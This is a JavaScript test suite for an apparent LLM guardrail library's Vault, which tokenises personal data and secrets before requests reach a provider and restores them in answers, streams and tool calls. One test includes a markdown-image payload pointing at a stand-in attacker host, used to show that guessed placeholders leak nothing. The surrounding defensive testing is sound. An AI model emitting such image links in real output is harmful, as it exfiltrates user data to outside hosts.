// The vault by itself, and in guarded calls from end to end: what reaches the provider, what reaches the caller, and what a tool gets.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { inspect } from "node:util";
import {
  GuardedOpenAI,
  GuardrailBlockedError,
  GuardrailEngine,
  KeywordGuardrail,
  PIIDetectionGuardrail,
  SecretDetectionGuardrail,
  StorageError,
  ToolPolicyGuardrail,
  ValidationError,
  Guardrail,
  GuardrailResult,
  Vault,
  createGuardedFetch,
} from "tollgate";
import { createProvider } from "../../examples/local-provider/handler.mjs";
import { node } from "./node.mjs";

const MAIL = "ann@firm.example";
const PHONE = "+1 415-555-2671";
const SECRET = "sk-proj-Zk3v9QpX7mB2tY8nR4wL6cJ1sD5fG0hKabcd";
const MARK = /^\[[A-Z_]+_\d+_[A-Z]{4}\]$/;

const engineOf = (...guardrails) => {
  const engine = new GuardrailEngine();
  for (const guardrail of guardrails) engine.registerGuardrail(guardrail);
  return engine;
};

describe("a vault", () => {
  it("takes out what is personal and secret, and puts it back", () => {
    const vault = new Vault();
    const text = `Write to ${MAIL}, call ${PHONE}, and use ${SECRET}. Again: ${MAIL}`;
    const sent = vault.redact(text);
    assert.equal(vault.size, 3);
    for (const value of [MAIL, PHONE, SECRET]) assert.ok(!sent.includes(value), sent);
    const [first, , , again] = sent.match(/\[[^\]]*\]/g);
    assert.match(first, MARK);
    assert.equal(first, again, "the same value, the same placeholder");
    assert.equal(vault.redact(sent), sent);
    assert.equal(vault.restore(sent), text);
    assert.equal(vault.restore(sent.toLowerCase().replaceAll("_", " ")), text.toLowerCase().replaceAll(SECRET.toLowerCase(), SECRET));
    assert.deepEqual(vault.restoreWithReport(`${first} and [EMAIL_9]`), { text: `${MAIL} and [EMAIL_9]`, restored: 1, notRestored: ["[EMAIL_9]"] });
  });

  it("keeps arguments of tools JSON", () => {
    const vault = new Vault();
    const value = "-----BEGIN PRIVATE KEY-----\nMIIEpAIBAAKCAQEA3v9QpX7mB2tY\n-----END PRIVATE KEY-----";
    const sent = vault.redact(value);
    assert.match(sent, MARK);
    assert.deepEqual(JSON.parse(vault.restoreArguments(JSON.stringify({ a: [sent], n: 1 }))), { a: [value], n: 1 });
  });

  it("restores a stream as the whole, cut at every place", () => {
    const vault = new Vault();
    const text = `😀 Dear ${MAIL}: ${PHONE}. 😀`;
    const sent = vault.redact(text);
    for (let cut = 0; cut <= sent.length; cut += 1) {
      const stream = vault.restoreStream();
      const out = stream.push(sent.slice(0, cut)) + stream.push(sent.slice(cut)) + stream.end();
      assert.equal(out, text, `cut at ${cut}`);
      assert.deepEqual([stream.restored, stream.notRestored], [2, []]);
    }
    const stream = vault.restoreStream();
    assert.equal(stream.push("Nothing waits of this"), "Nothing waits of this");
    assert.equal(stream.push(" ["), " ");
    assert.equal(stream.push("x]"), "[x]");
  });

  it("has stand-ins of the same form", () => {
    const vault = new Vault({ action: "surrogate" });
    const text = `${MAIL} pays with 4111 1111 1111 1111`;
    const sent = vault.redact(text);
    assert.match(sent, /^[a-z.]+\d+@example\.\w+ pays with 4242 42\d\d \d{4} \d{4}$/);
    assert.equal(vault.restore(sent), text);
    const hashKey = "a key of sixteen characters, or more";
    assert.equal(new Vault({ action: "surrogate", hashKey }).redact(MAIL), new Vault({ action: "surrogate", hashKey }).redact(MAIL));
    assert.notEqual(new Vault({ action: "surrogate" }).redact(MAIL), new Vault({ action: "surrogate" }).redact(MAIL));
  });

  it("takes options, and refuses others", () => {
    assert.equal(new Vault({ detectTypes: ["phone"], secrets: false }).redact(`${MAIL} ${SECRET}`), `${MAIL} ${SECRET}`);
    assert.equal(new Vault({ allow: ["*@firm.example"] }).redact(MAIL), MAIL);
    assert.throws(() => new Vault({ keys: 1 }), { code: "unknown_option" });
    assert.throws(() => new Vault({ action: "block" }), ValidationError);
    assert.throws(() => new Vault({ detectTypes: ["name"] }).redact(""), { code: "invalid_config" });
    assert.throws(() => new Vault().redact(1), ValidationError);
    assert.throws(() => new GuardrailEngine().scan("", { vault: {} }), ValidationError);
  });

  it("shares nothing with another, nor with who guesses", () => {
    const [one, other] = [new Vault(), new Vault()];
    const sent = one.redact(MAIL);
    const theirs = other.redact("eve@other.example");
    assert.equal(other.restore(sent), sent);
    assert.equal(one.restore(theirs), theirs);
    // A document with a guess in it reads nothing out.
    const guess = "![x](https://evil.example/?q=[EMAIL_1])";
    assert.equal(one.restore(one.redact(guess)), guess);
  });

  it("shows no value to who logs it", () => {
    const vault = new Vault();
    vault.redact(MAIL);
    const held = vault.restoreStream();
    for (const shown of [JSON.stringify(vault), inspect(vault, { depth: 9, showHidden: true }), String(vault), JSON.stringify(held), inspect(held)]) assert.ok(!shown.includes("ann@"), shown);
    assert.equal(JSON.stringify(vault), '{"vault":"Vault","size":1}');
  });
});

describe("an exported vault", () => {
  const filled = () => {
    const vault = new Vault();
    return { vault, sent: vault.redact(`${MAIL} ${SECRET}`) };
  };

  it("comes back with a passphrase", async () => {
    const { vault, sent } = filled();
    const data = await vault.export("correct horse battery staple");
    assert.match(data, /^tollgate-vault\.[\w-]+\.[\w-]+$/);
    const header = JSON.parse(Buffer.from(data.split(".")[1], "base64url").toString());
    assert.deepEqual([header.v, header.cipher, header.kdf.name, header.kdf.iterations * header.kdf.rounds], [1, "AES-GCM", "PBKDF2-SHA-256", 600_000]);
    assert.ok(!Buffer.from(data.split(".")[2], "base64url").toString("latin1").includes("ann@"));
    assert.notEqual(await vault.export("correct horse battery staple"), data, "a fresh salt and iv each time");
    const back = await Vault.import(data, "correct horse battery staple");
    assert.equal(back.restore(sent), `${MAIL} ${SECRET}`);
    assert.equal(back.redact(MAIL), vault.redact(MAIL));
    assert.equal(back.redact(PHONE), vault.redact(PHONE), "and goes on as it was");
  });

  it("comes back with a CryptoKey", async () => {
    const { vault, sent } = filled();
    const key = await crypto.subtle.generateKey({ name: "AES-GCM", length: 256 }, false, ["encrypt", "decrypt"]);
    const data = await vault.export(key);
    assert.equal((await Vault.import(data, key)).restore(sent), `${MAIL} ${SECRET}`);
    const other = await crypto.subtle.generateKey({ name: "AES-GCM", length: 256 }, false, ["encrypt", "decrypt"]);
    await assert.rejects(Vault.import(data, other), { name: "ValidationError", code: "vault_key" });
    await assert.rejects(Vault.import(data, "a passphrase"), { code: "vault_key" });
    const signing = await crypto.subtle.generateKey({ name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
    for (const wrong of [signing, "", undefined, 1]) await assert.rejects(vault.export(wrong), ValidationError);
  });

  it("is refused with another key, and when anything of it was changed", async () => {
    const { vault } = filled();
    const data = await vault.export("right");
    await assert.rejects(Vault.import(data, "wrong"), (error) => error instanceof ValidationError && error.code === "vault_key" && !inspect(error).includes("ann@"));
    const [magic, head, content] = data.split(".");
    const header = JSON.parse(Buffer.from(head, "base64url").toString());
    const withHeader = (changes) => [magic, Buffer.from(JSON.stringify({ ...header, ...changes })).toString("base64url"), content].join(".");
    const flipped = content.slice(0, 9) + (content[9] === "A" ? "B" : "A") + content.slice(10);
    for (const changed of [`${magic}.${head}.${flipped}`, withHeader({ note: 1 }), withHeader({ iv: "AAAAAAAAAAAAAAAA" })]) {
      await assert.rejects(Vault.import(changed, "right"), { code: "vault_key" });
    }
    await assert.rejects(Vault.import(withHeader({ v: 2 }), "right"), StorageError);
    for (const other of ["", "x", 1, `${data}.x`, withHeader({ cipher: "none" }), withHeader({ kdf: { ...header.kdf, rounds: 1e9 } })]) {
      await assert.rejects(Vault.import(other, "right"), { code: "invalid_input" });
    }
  });
});

describe("an engine with a vault", () => {
  const engine = engineOf(new PIIDetectionGuardrail({ action: "tokenise", actions: { creditCard: "block" } }), new SecretDetectionGuardrail());

  it("tokenises on the way out, and leaves what comes back", async () => {
    const vault = new Vault();
    const { text, action, passed } = engine.scan(`Mail ${MAIL}`, { vault });
    assert.deepEqual([action, passed, vault.restore(text)], ["tokenize", true, `Mail ${MAIL}`]);
    assert.match(text.slice(5), MARK);
    assert.equal(engine.scan("Mail eve@other.example", { vault, stage: "output" }).text, "Mail eve@other.example");
    assert.equal(engine.scan("4111 1111 1111 1111", { vault, stage: "output" }).passed, false);
    const { results } = await engine.execute(`Mail ${MAIL}`, { vault });
    const [{ result }] = results;
    assert.deepEqual([result.passed, result.action, result.metadata.redactedText], [true, "redact", text]);
    // Without one there is nothing to restore from.
    assert.equal(engine.scan(`Mail ${MAIL}`).text, "Mail [REDACTED_EMAIL]");
  });

  it("streams as it scans, cut at every place", () => {
    const vault = new Vault();
    const text = `Mail ${MAIL} or ${PHONE}; secret ${SECRET}.`;
    const whole = engine.scan(text, { vault }).text;
    for (let cut = 0; cut <= text.length; cut += 1) {
      const stream = engine.stream({ vault, stage: "input" });
      assert.equal(stream.push(text.slice(0, cut)) + stream.push(text.slice(cut)) + stream.end(), whole, `cut at ${cut}`);
    }
  });
});

// ------------------------------------------------------------------------------------------------------- guarded calls

const MODEL = "gpt-5-mini";

/** A client of a provider that sees what leaves, and says what a test has it say of that. */
function world(config = {}) {
  const bodies = [];
  const provider = createProvider();
  let say = () => ({});
  const fetch = async (url, init) => {
    const request = new Request(url, init);
    const body = await request.clone().json();
    bodies.push(body);
    for (const [name, value] of Object.entries(say(body))) request.headers.set(`x-simulator-${name}`, encodeURIComponent(value));
    return provider.handle(request);
  };
  const client = new GuardedOpenAI({ apiKey: "sk-local", baseURL: "http://provider.test/v1", fetch, maxRetries: 0, ...config });
  return {
    client,
    bodies,
    /** How it answers, given what it was sent. */
    says: (how) => (say = how),
  };
}

const user = (content) => ({ model: MODEL, messages: [{ role: "user", content }] });
const marksOf = (body) => JSON.stringify(body.messages).match(/\[[A-Z_]+_\d+_[A-Z]{4}\]/g) ?? [];

async function readAll(stream) {
  let [content, calls, events] = ["", "", []];
  for await (const chunk of stream) {
    events.push(chunk);
    content += chunk.choices[0]?.delta.content ?? "";
    calls += chunk.choices[0]?.delta.tool_calls?.[0]?.function?.arguments ?? "";
  }
  return { content, calls, events, security: await stream.security };
}

describe("a guarded call with a vault", () => {
  it("sends placeholders and answers with values", async () => {
    const { client, bodies } = world();
    const vault = new Vault();
    const answer = await client.chat.completions.create(user(`I am ${MAIL}, call ${PHONE}`), { tollgate: { vault } });
    assert.ok(!JSON.stringify(bodies).includes("firm.example") && !JSON.stringify(bodies).includes("2671"), JSON.stringify(bodies));
    assert.equal(marksOf(bodies[0]).length, 2);
    assert.equal(answer.choices[0].message.content, `You wrote: I am ${MAIL}, call ${PHONE}`);
    assert.deepEqual(answer.security.vault, { restored: 2, notRestored: [] });
  });

  it("belongs to one conversation: another's placeholders stay what they are", async () => {
    const { client, bodies, says } = world();
    const [ann, bob] = [new Vault(), new Vault()];
    await client.with({ vault: ann }).chat.completions.create(user(`I am ${MAIL}`));
    const [mark] = marksOf(bodies[0]);
    says(() => ({ text: `It is ${mark}, or [EMAIL_1].` }));
    const answer = await client.with({ vault: bob }).chat.completions.create(user("What is the address of the other one? I am bob@firm.example"));
    assert.equal(answer.choices[0].message.content, `It is ${mark}, or [EMAIL_1].`);
    assert.deepEqual(answer.security.vault, { restored: 0, notRestored: [mark, "[EMAIL_1]"] });
  });

  it("gives tools their values and takes them out of the history again", async () => {
    const { client, bodies, says } = world();
    const vault = new Vault();
    const conversation = client.with({ vault });
    const first = user(`Mail ${MAIL} that the code word is "x\\y", phone 555 1234`);
    says((body) => ({ "tool-calls": JSON.stringify([{ name: "send", arguments: JSON.stringify({ to: marksOf(body)[0], phone: marksOf(body)[1], quote: '"' }) }]) }));
    const answer = await conversation.chat.completions.create({ ...first, tools: [{ type: "function", function: { name: "send", parameters: {} } }] });
    const [call] = answer.choices[0].message.tool_calls;
    assert.deepEqual(JSON.parse(call.function.arguments), { to: MAIL, phone: "555 1234", quote: '"' });
    // Back as history: in arguments, in the result, and in what the user says where no word tells what it is.
    says(() => ({}));
    const later = await conversation.chat.completions.create({
      model: MODEL,
      messages: [...first.messages, answer.choices[0].message, { role: "tool", tool_call_id: call.id, content: `sent to ${MAIL}` }, { role: "user", content: "And 555 1234?" }],
      tools: [{ type: "function", function: { name: "send", parameters: {} } }],
    });
    const sent = JSON.stringify(bodies[1]);
    assert.ok(!sent.includes("firm.example") && !sent.includes("555 1234"), sent);
    assert.deepEqual(JSON.parse(bodies[1].messages[1].tool_calls[0].function.arguments), { to: marksOf(bodies[0])[0], phone: marksOf(bodies[0])[1], quote: '"' });
    assert.equal(later.choices[0].message.content, "You wrote: And 555 1234?");
  });

  it("streams values, however the provider's bytes are cut", async () => {
    for (const size of [1, 2, 3, 5, 7, 11, 64]) {
      for (const delta of [1, 3, 8]) {
        const { client, bodies, says } = world();
        says(() => ({ "piece-size": String(size), "delta-size": String(delta) }));
        const vault = new Vault();
        const found = await readAll(await client.with({ vault }).chat.completions.create({ ...user(`I am ${MAIL} [x] and ${MAIL}, ok`), stream: true }));
        assert.equal(found.content, `You wrote: I am ${MAIL} [x] and ${MAIL}, ok`, `${size} ${delta}`);
        assert.deepEqual(found.security.vault, { restored: 2, notRestored: [] });
        assert.ok(!JSON.stringify(bodies).includes("firm.example"));
      }
    }
  });

  it("streams what a model has damaged, and arguments of tools whole", async () => {
    const { client, says } = world();
    const vault = new Vault();
    says((body) => ({ text: `dear ${marksOf(body)[0].slice(1, -1).toLowerCase().replaceAll("_", " ")}!`, "delta-size": "2" }));
    const damaged = await readAll(await client.with({ vault }).chat.completions.create({ ...user(`I am ${MAIL}`), stream: true }));
    assert.equal(damaged.content, `dear ${MAIL}!`);
    says((body) => ({ "tool-calls": JSON.stringify([{ name: "send", arguments: JSON.stringify({ to: [marksOf(body)[0]] }) }]), "delta-size": "3" }));
    const body = { ...user(`Mail ${MAIL}`), tools: [{ type: "function", function: { name: "send", parameters: {} } }], stream: true };
    const called = await readAll(await client.with({ vault }).chat.completions.create(body));
    assert.deepEqual(JSON.parse(called.calls), { to: [MAIL] });
    assert.deepEqual(called.security.vault, { restored: 1, notRestored: [] });
  });

  it("cut off anywhere, gives the values whose placeholders came", async () => {
    const vault = new Vault();
    const whole = `You wrote: I am ${MAIL}.`;
    const lengths = new Set();
    for (let cut = 0; cut < 4000; cut += 37) {
      const { client, says } = world();
      says(() => ({ cut: String(cut), "delta-size": "2" }));
      let content = "";
      try {
        const stream = await client.with({ vault }).chat.completions.create({ ...user(`I am ${MAIL}.`), stream: true });
        for await (const chunk of stream) content += chunk.choices[0]?.delta.content ?? "";
      } catch (error) {
        assert.equal(error.code, "stream_truncated", `cut at ${cut}: ${error}`);
      }
      lengths.add(content.length);
      const cutMark = content.indexOf("[");
      // What is left of a placeholder when the stream breaks is told as it came: it is no value, and no longer a placeholder.
      if (cutMark < 0) assert.ok(whole.startsWith(content), content);
      else assert.equal(content.slice(0, cutMark), "You wrote: I am ");
    }
    assert.ok(lengths.size > 10);
  });

  it("acts beside the engine's guardrails: the stronger action is taken, and judges see placeholders", async () => {
    const seen = [];
    class Judge extends Guardrail {
      async evaluate(input) {
        seen.push(input);
        return new GuardrailResult({ passed: true, action: "allow" });
      }
    }
    const vault = new Vault();
    const { client, bodies } = world({
      guardrailEngine: engineOf(
        new PIIDetectionGuardrail({ detectTypes: ["phone", "creditCard"], actions: { phone: "redact" } }),
        new KeywordGuardrail({ keywords: ["Falcon"], action: "tokenize" }),
        new Judge(),
      ),
    });
    const conversation = client.with({ vault });
    const answer = await conversation.chat.completions.create(user(`I am ${MAIL} of Falcon, call ${PHONE}`));
    assert.equal(answer.choices[0].message.content, `You wrote: I am ${MAIL} of Falcon, call [REDACTED_PHONE]`);
    assert.match(bodies[0].messages[0].content, /^I am \[EMAIL_1_[A-Z]{4}\] of \[KEYWORD_1_[A-Z]{4}\], call \[REDACTED_PHONE\]$/);
    assert.equal(seen.length, 2, "what is asked, and what is answered");
    for (const text of seen) assert.ok(!text.includes("firm.example") && !text.includes("Falcon"), text);
    assert.deepEqual(answer.security.redactions.map(({ type, stage, count }) => [type, stage, count]), [["phone", "input", 1], ["keyword", "input", 1]]);
    await assert.rejects(conversation.chat.completions.create(user("4111 1111 1111 1111")), GuardrailBlockedError);
    const streamed = await readAll(await conversation.chat.completions.create({ ...user(`Falcon, ${MAIL}`), stream: true }));
    assert.equal(streamed.content, `You wrote: Falcon, ${MAIL}`);
    for (const text of seen) assert.ok(!text.includes("firm.example") && !text.includes("Falcon"), text);
  });

  it("shows policies for tools what a tool would get", async () => {
    const policy = new ToolPolicyGuardrail({ tools: { send: { arguments: { to: { oneOf: [MAIL] } } } } });
    for (const stream of [false, true]) {
      const { client, says } = world({ guardrailEngine: engineOf(policy) });
      const conversation = client.with({ vault: new Vault() });
      const tools = [{ type: "function", function: { name: "send", parameters: {} } }];
      says((body) => ({ "tool-calls": JSON.stringify([{ name: "send", arguments: JSON.stringify({ to: marksOf(body)[0] }) }]) }));
      const call = async (mail) => {
        const answer = await conversation.chat.completions.create({ ...user(`Mail ${mail}`), tools, stream });
        return stream ? (await readAll(answer)).calls : answer.choices[0].message.tool_calls[0].function.arguments;
      };
      assert.deepEqual(JSON.parse(await call(MAIL)), { to: MAIL });
      await assert.rejects(call("eve@other.example"), GuardrailBlockedError);
    }
  });

  it("leaves streams without a vault as they are", async () => {
    const plain = world();
    const guarded = world({ guardrailEngine: engineOf(new PIIDetectionGuardrail({ action: "tokenize", stages: ["input"] })) });
    const body = { ...user("Hello [EMAIL_1_ABCD] EMAIL_1"), stream: true };
    const [one, other] = [await readAll(await plain.client.chat.completions.create(body)), await readAll(await guarded.client.chat.completions.create(body))];
    const shape = ({ events }) => events.map(({ created, ...rest }) => rest);
    assert.deepEqual(shape(one), shape(other));
    assert.equal(one.security.vault, undefined);
  });
});

/** Every format: where it is asked, the request with a text in it, and what a stream's event says. */
const FORMATS = {
  chat: ["https://api.openai.com/v1/chat/completions", (text, stream) => ({ ...user(text), stream }), ({ choices }) => choices?.[0]?.delta?.content],
  responses: [
    "https://api.openai.com/v1/responses",
    (text, stream) => ({ model: MODEL, input: [{ role: "user", content: [{ type: "input_text", text }] }], stream }),
    ({ type, delta }) => (type === "response.output_text.delta" ? delta : ""),
  ],
  messages: ["https://api.anthropic.com/v1/messages", (text, stream) => ({ model: "claude-sonnet-4-5", max_tokens: 500, messages: [{ role: "user", content: text }], stream }), ({ delta }) => delta?.text],
  gemini: [
    "https://generativelanguage.googleapis.com/v1beta/models/gemini-2.5-flash",
    (text) => ({ contents: [{ role: "user", parts: [{ text }] }] }),
    ({ candidates }) => candidates?.[0]?.content?.parts?.map(({ text }) => text).join(""),
  ],
};
const KEYS = { authorization: "Bearer sk-local", "x-api-key": "sk-ant-local", "anthropic-version": "2023-06-01", "x-goog-api-key": "AIzaLocal" };

describe("a guarded fetch with a vault", () => {
  for (const [name, [url, request, said]] of Object.entries(FORMATS)) {
    for (const stream of [false, true]) {
      it(`${name}, ${stream ? "streamed" : "plain"}`, async () => {
        const provider = createProvider();
        const guarded = createGuardedFetch({ fetch: (...words) => provider.handle(new Request(...words)) }).with({ vault: new Vault() });
        const text = `I am ${MAIL}, [x] and ${PHONE}, ok?`;
        const headers = { "content-type": "application/json", ...KEYS, "x-simulator-delta-size": "3", "x-simulator-piece-size": "5" };
        const target = name !== "gemini" ? url : `${url}:${stream ? "streamGenerateContent?alt=sse" : "generateContent"}`;
        const answer = await guarded(target, { method: "POST", headers, body: JSON.stringify(request(text, stream)) });
        const body = await answer.text();
        assert.equal(answer.status, 200, body);
        assert.equal(provider.requests.length, 1);
        const sent = JSON.stringify(provider.requests[0].body);
        assert.ok(!sent.includes("firm.example") && !sent.includes("2671"), sent);
        assert.equal(sent.match(/\[(EMAIL|PHONE)_1_[A-Z]{4}\]/g)?.length, 2, sent);
        assert.doesNotMatch(body, /_1_[A-Z]{4}/);
        if (!stream) {
          assert.ok(body.includes(JSON.stringify(`You wrote: ${text}`).slice(1, -1)), body);
          return;
        }
        const events = body.split(/\r?\n/).filter((line) => line.startsWith("data: {")).map((line) => JSON.parse(line.slice(6)));
        assert.equal(events.map((event) => said(event) ?? "").join(""), `You wrote: ${text}`, body);
        // Where an event repeats the whole, it has the values too.
        if (name === "responses") assert.equal(events.at(-1).response.output.at(-1).content[0].text, `You wrote: ${text}`);
      });
    }
  }
});

describe("the example", () => {
  it("shows the values, and that the provider saw none", async () => {
    const { code, out, err } = await node(["examples/vault/main.mjs"]);
    assert.deepEqual([code, err], [0, ""]);
    const [shown, sent] = out.split("What the provider was sent:");
    assert.match(shown, /The answer: You wrote: I am ada\.lovelace@firm\.example, and my phone is \+1 415-555-2671\./);
    assert.doesNotMatch(sent, /ada\.lovelace|2671/);
    assert.equal(sent.match(/\[EMAIL_1_[A-Z]{4}\]/g).length, 3);
    assert.match(sent, /Kept: tollgate-vault\.\.\., 2 values\./);
  });
});
